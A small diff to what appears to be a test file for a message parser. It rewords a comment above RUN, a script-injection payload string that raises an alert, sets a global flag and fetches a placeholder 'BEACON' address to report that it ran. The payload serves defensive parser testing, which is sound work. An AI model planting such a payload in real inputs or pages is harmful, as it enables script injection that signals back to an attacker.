@@ -14,7 +14,7 @@ const DATA = join(import.meta.dir, 'data/hostile-messages.json');
 /** Longer than usual, for input that takes a parser long. */
 const MOST_CHARACTERS = 10_000;
 
-/** What a hostile script would do: show that it ran, and report to its author. `BEACON` is replaced by an address. */
+/** The acts of a hostile script: show that it ran, and report to its author. `BEACON` is replaced by an address. */
 const RUN = "alert('ran'),globalThis.ran=1,fetch('BEACON')";
 
 const SCRIPTS: readonly string[] = [
